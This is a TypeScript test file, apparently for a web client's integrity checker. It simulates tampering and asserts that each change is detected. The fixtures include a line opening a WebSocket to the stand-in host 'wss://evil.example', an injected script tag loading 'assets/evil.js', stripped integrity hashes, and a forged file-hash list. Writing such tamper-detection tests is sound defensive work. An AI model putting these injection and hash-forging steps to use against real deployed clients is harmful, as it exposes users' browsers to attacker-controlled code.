import { CLIENT_FILES } from '@parley/protocol'
import { expect } from 'vitest'
import { attackOnClient, builtClient } from './kit/attackOnClient.ts'

const built = builtClient()
const EVIL = 'assets/evil.js'
const LISTEN = 'new WebSocket("wss://evil.example")\n'

attackOnClient(
  { number: 43, by: 'S', built },
  'a script with one more line is named',
  async (client) => {
    const script = client.fileNamed('assets/base-')
    await client.alter(script, (text) => text + LISTEN)

    const { findings, lines } = await client.verified()

    expect(findings).toEqual([{ is: 'differs', path: script }])
    expect(lines).toContain(`  differs: ${script}`)
  },
)

attackOnClient(
  { number: 43, by: 'S', built },
  'a script that only browsers are sent, who take it packed, is named',
  async (client) => {
    await client.alterPacked('head.js', LISTEN)

    expect((await client.verified()).findings).toEqual([{ is: 'differs', path: 'head.js' }])
  },
)

attackOnClient(
  { number: 43, by: 'S', built },
  'a script that the page loads beside its own is named, and the line that loads it',
  async (client) => {
    const line = `<script src="/${EVIL}"></script>`
    await client.alter(EVIL, () => LISTEN)
    await client.alter('index.html', (page) => page.replace('</head>', `${line}\n</head>`))

    const { findings, lines } = await client.verified()

    expect(findings).toContainEqual({ is: 'page', number: expect.any(Number), text: line })
    expect(findings).toContainEqual({ is: 'added', path: EVIL, by: 'page' })
    expect(findings).toContainEqual({ is: 'differs', path: 'index.html' })
    expect(lines.join('\n')).toContain(`added: ${EVIL}`)
  },
)

attackOnClient(
  { number: 43, by: 'S', built },
  'a page whose scripts are bound to no hash is named, and where it begins to differ',
  async (client) => {
    await client.alter('index.html', (page) => page.replaceAll(/ integrity="[^"]+"/g, ''))

    const { findings } = await client.verified()

    expect(findings).toContainEqual({ is: 'differs', path: 'index.html' })
    expect(findings[0]).toMatchObject({ is: 'page', text: expect.stringContaining('/head.js') })
  },
)

attackOnClient(
  { number: 43, by: 'S', built },
  'a list that was altered to fit the files is another client, and its file is named',
  async (client) => {
    await client.alter(EVIL, () => LISTEN)
    const hash = '0'.repeat(64)
    await client.alter(CLIENT_FILES, (list) =>
      [...list.trimEnd().split('\n'), `${hash}  ${EVIL}`]
        .toSorted((one, other) => (one.slice(66) < other.slice(66) ? -1 : 1))
        .join('\n')
        .concat('\n'),
    )

    const { findings, lines } = await client.verified()

    expect(findings.map(({ is }) => is)).toEqual(['other-client', 'added'])
    expect(lines.join('\n')).toContain(`added: ${EVIL}, which the list names`)
  },
)
